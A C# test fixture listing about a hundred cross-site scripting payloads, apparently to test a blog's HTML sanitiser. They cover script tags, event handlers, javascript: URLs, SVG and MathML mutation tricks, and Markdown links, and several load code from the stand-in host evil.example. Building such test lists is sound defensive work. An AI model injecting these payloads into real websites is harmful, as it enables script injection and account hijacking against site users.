namespace LiveBlog.Tests.Features.Publishing;

/// <summary>One or more of each family: elements, handlers, schemes, encodings, broken markup, foreign content, mutation, styles, clobbering.</summary>
static class XssVectors
{
    public static readonly IReadOnlyList<string> All =
    [
        // Script elements, plain, broken and nested.
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
        "<script/x>alert(1)</script>",
        "<script\n>alert(1)</script\n>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script>alert(1)",
        "</script><script>alert(1)</script>",
        "<<script>alert(1);//<</script>",
        "<script type=\"application/json\" id=\"words\">{}</script>",
        "<script type=module>import('//evil.example')</script>",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",

        // Handlers.
        "<img src=x onerror=alert(1)>",
        "<img/src=x/onerror=alert(1)>",
        "<img src=\"x\"onerror=\"alert(1)\">",
        "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
        "<body onload=alert(1)>",
        "<p onmouseover=alert(1)>x</p>",
        "<p/onclick=alert(1)>x",
        "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>",
        "<audio src=x onerror=alert(1)></audio>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)></select>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<a onpointerenter=alert(1) href=/>x</a>",
        "<b ONCLICK=alert(1)>x</b>",
        "<b on\u0000click=alert(1)>x</b>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "` onmouseover=alert(1) `",

        // Schemes.
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        " javascript:alert(1)",
        "java\tscript:alert(1)",
        "java\nscript:alert(1)",
        "\u0001javascript:alert(1)",
        "javascript&colon;alert(1)",
        "vbscript:msgbox(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<a href=\" &#14; javascript:alert(1)\">x</a>",
        "<a href='data:text/html,x'>x</a>",
        "<a href=\"//evil.example\" href=\"javascript:alert(1)\">x</a>",
        "<a href=\"feed:javascript:alert(1)\">x</a>",
        "<blockquote cite=\"javascript:alert(1)\">x</blockquote>",

        // Frames, objects, forms, documents.
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<form action=javascript:alert(1)><button>x</button></form>",
        "<button formaction=javascript:alert(1)>x</button>",
        "<isindex action=javascript:alert(1) type=image>",
        "<base href=\"//evil.example/\">",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=//evil.example/x.css>",
        "<link rel=import href=//evil.example/x.html>",
        "<frameset onload=alert(1)></frameset>",

        // Styles.
        "<style>*{background:url(//evil.example)}</style>",
        "<p style=\"background:url(javascript:alert(1))\">x</p>",
        "<p style=\"width:expression(alert(1))\">x</p>",
        "<style>@import '//evil.example/x.css';</style>",

        // Foreign content and mutation.
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x\"/></svg>",
        "<math><a xlink:href=javascript:alert(1)>x</a></math>",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
        "<title><img title=\"</title><img src=x onerror=alert(1)>\"></title>",
        "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
        "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
        "<template><script>alert(1)</script></template>",
        "<table><td><svg><desc><td><title><style><!--</style><img src onerror=alert(1)>-->",

        // Comments and half-finished markup.
        "<!--><img src=x onerror=alert(1)>-->",
        "<!--[if IE]><script>alert(1)</script><![endif]-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version=\"1.0\"?><script>alert(1)</script>",
        "<a <script>alert(1)</script>",
        "</article></section><script>alert(1)</script>",
        "</p></div></div><iframe src=//evil.example>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\u00bcscript\u00bealert(1)\u00bc/script\u00be",

        // Markdown's own ways, and ids that pose as the page's.
        "[x](javascript:alert(1))",
        "![x](x\"onerror=\"alert(1))",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)",
        "<p id=words>x</p><a id=feed name=body href=/>y</a>",
        "<img name=getElementById>",
    ];
}
